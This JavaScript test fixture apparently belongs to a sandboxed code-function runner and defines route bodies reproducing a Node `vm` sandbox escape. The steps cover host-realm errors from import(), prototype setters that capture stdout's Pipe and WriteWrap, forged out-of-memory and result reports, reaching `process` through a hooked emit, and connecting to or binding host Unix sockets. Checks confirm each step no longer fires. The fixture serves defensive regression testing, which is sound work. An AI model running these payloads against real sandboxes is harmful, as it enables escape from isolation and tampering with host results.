// The escape chain of issue 32 (item 1), step by step, as code-function bodies. Under the Node `vm` sandbox each step
// worked: a refused import() handed over an error of the host realm; its prototype chain led to the host's
// Object.prototype; setters for `handle` and `callback` defined there fired inside Node's own code when the runner
// wrote its report, handing over stdout's Pipe handle and its WriteWrap (the handle's constructor makes new sockets;
// writing to it forges the report); replacing the callback kept the process running, and a hooked
// EventEmitter.prototype.emit then met the real `process`. Each body returns 'own result' when nothing fired; the
// test (test/emulator/sandbox-escape.test.ts) checks that the outcome is what the function itself returned and that
// nothing outside the call was touched.

/** Finds the root of the prototype chain of a refused import()'s error; `onHandle(fn)` runs fn(pipe, WriteWrap) when
 * anything assigns a `handle` property there (the runner's write of its report did). */
const PRELUDE = `
let hostError;
try { await import('x'); } catch (e) { hostError = e; }
let root = hostError;
while (root && Object.getPrototypeOf(root)) root = Object.getPrototypeOf(root);
const onHandle = (fn) => Object.defineProperty(root, 'handle', { configurable: true, set(v) {
  Object.defineProperty(this, 'handle', { value: v, writable: true, configurable: true, enumerable: true });
  if (v && typeof v.writeUtf8String === 'function' && !root.__calckitFired) {
    root.__calckitFired = true;
    try { fn(v, this.constructor); } catch {}
  }
} });
const connectTo = (pipe, WriteWrap, path) => {
  const socket = new pipe.constructor(0);
  const req = new WriteWrap();
  req.oncomplete = () => {};
  socket.connect(req, path);
};
`;

/** Route name → body. `socketPath`: a host Unix socket nobody may reach; `processSocketPath`: another one, connected
 * to only by code that has met `process`; `bindPath`: where no socket may appear. */
export function escapeChainRoutes({ socketPath, processSocketPath, bindPath }) {
  const Q = JSON.stringify;
  const forge = (outcome) => `${PRELUDE}
onHandle((pipe, WriteWrap) => {
  const req = new WriteWrap();
  Object.defineProperty(req, 'handle', { value: pipe });
  req.oncomplete = () => {};
  pipe.writeUtf8String(req, JSON.stringify({ outcome: ${outcome}, logs: { stdout: [], stderr: [] } }) + '\\n');
});
return 'own result';`;
  return {
    // Steps 1 and 2: what import() throws, and where its prototype chain ends.
    importErrorRealm: `${PRELUDE}
return { errorOfThisRealm: hostError instanceof Error, rootIsThisRealmsObjectPrototype: root === Object.prototype };`,
    // Step 3, the setter trick, used to forge the outcome: a normal return reported as OUT_OF_MEMORY…
    forgeOutOfMemory: forge("{ kind: 'out-of-memory' }"),
    // …or with a result the function chose.
    forgeResult: forge(`{ kind: 'returned', json: ${Q(Q('FORGED'))} }`),
    // The same outcome asked for from inside the engine: an error made to look like its out-of-memory error, thrown
    // with memory to spare (FAILED: the Node side saw no allocation refused).
    forgeOutOfMemoryByThrowing: "const E = typeof InternalError === 'function' ? InternalError : Error; const e = new E('out of memory'); e.name = 'InternalError'; throw e;",
    // Step 4: the callback setter keeps the process running (and the report is swallowed); a hooked emit meets
    // `process` when the host reports an unhandled rejection (proved by connecting to a socket only this step uses).
    reachProcess: `${PRELUDE}
Object.defineProperty(root, 'callback', { configurable: true, set(v) {
  Object.defineProperty(this, 'callback', { value: () => {}, writable: true, configurable: true, enumerable: true });
} });
onHandle((pipe, WriteWrap) => {
  // The runner's report is swallowed: its parent keeps waiting while this process's event loop runs on.
  Object.defineProperty(pipe, 'writeUtf8String', { value: () => 0, configurable: true });
  for (const key of Object.getOwnPropertySymbols(pipe)) {
    let emitter = pipe[key];
    if (!emitter || typeof emitter.emit !== 'function') continue;
    while (emitter && !Object.prototype.hasOwnProperty.call(emitter, 'emit')) emitter = Object.getPrototypeOf(emitter);
    const emit = emitter.emit;
    emitter.emit = function (...args) {
      if (this && typeof this.pid === 'number' && typeof this.cwd === 'function' && !root.__calckitProcess) {
        root.__calckitProcess = true;
        connectTo(pipe, WriteWrap, ${Q(processSocketPath)});
      }
      return emit.apply(this, args);
    };
    Promise.reject(new Error('to make the host emit unhandledRejection'));
    break;
  }
});
return 'own result';`,
    // Step 5: a Unix socket of the host (the network namespace does not cover sockets on the filesystem).
    connectHostUnixSocket: `${PRELUDE}
onHandle((pipe, WriteWrap) => connectTo(pipe, WriteWrap, ${Q(socketPath)}));
return 'own result';`,
    // Step 6: a socket bound in /tmp, which outlives the call.
    bindSocketInTmp: `${PRELUDE}
onHandle((pipe) => new pipe.constructor(1).bind(${Q(bindPath)}));
return 'own result';`,
    // Internal frames: a stack shows only the function's own frames.
    stackFrames: "return new Error('where').stack;",
  };
}

/** Route name → the status it must end with and `check(body, seen)`: undefined when the outcome is the safe one, else
 * what went wrong. `seen`: connections to the host sockets, and whether a socket was bound at `bindPath`, after the
 * call. The safe outcome is always what the function itself did: nothing fired outside it. */
export function chainRouteChecks() {
  const ownResult = (body) => (body.result === 'own result' && body.errorInformation == null ? undefined : `the outcome is not the function's own: ${JSON.stringify(body).slice(0, 200)}`);
  return {
    importErrorRealm: {
      expect: ['SUCCESS'],
      check: (body) => (body.result?.errorOfThisRealm === true && body.result?.rootIsThisRealmsObjectPrototype === true ? undefined : `import()'s error is not of the function's realm: ${JSON.stringify(body.result)}`),
    },
    forgeOutOfMemory: { expect: ['SUCCESS'], check: ownResult },
    forgeResult: { expect: ['SUCCESS'], check: ownResult },
    forgeOutOfMemoryByThrowing: {
      expect: ['FAILED'],
      check: (body) => (/threw: out of memory/.test(String(body.errorInformation?.errorMessages?.[0])) ? undefined : `not reported as what it threw: ${JSON.stringify(body.errorInformation)}`),
    },
    reachProcess: { expect: ['SUCCESS'], check: (body, seen) => (seen.processConnections > 0 ? 'code that met process connected to the host' : ownResult(body)) },
    connectHostUnixSocket: { expect: ['SUCCESS'], check: (body, seen) => (seen.hostConnections > 0 ? 'the host Unix socket was reached' : ownResult(body)) },
    bindSocketInTmp: { expect: ['SUCCESS'], check: (body, seen) => (seen.bound ? 'a socket was bound in /tmp' : ownResult(body)) },
    stackFrames: {
      expect: ['SUCCESS'],
      check: (body) => {
        const lines = String(body.result).split('\n').filter((l) => l.trim() !== '');
        const foreign = lines.filter((l) => !/\(function\.js:\d+(:\d+)?\)$/.test(l));
        return foreign.length > 0 || /node:|prelude|\[eval\]|quickjs/.test(String(body.result)) ? `the stack shows frames not the function's: ${foreign.join(' | ').slice(0, 200)}` : undefined;
      },
    },
  };
}
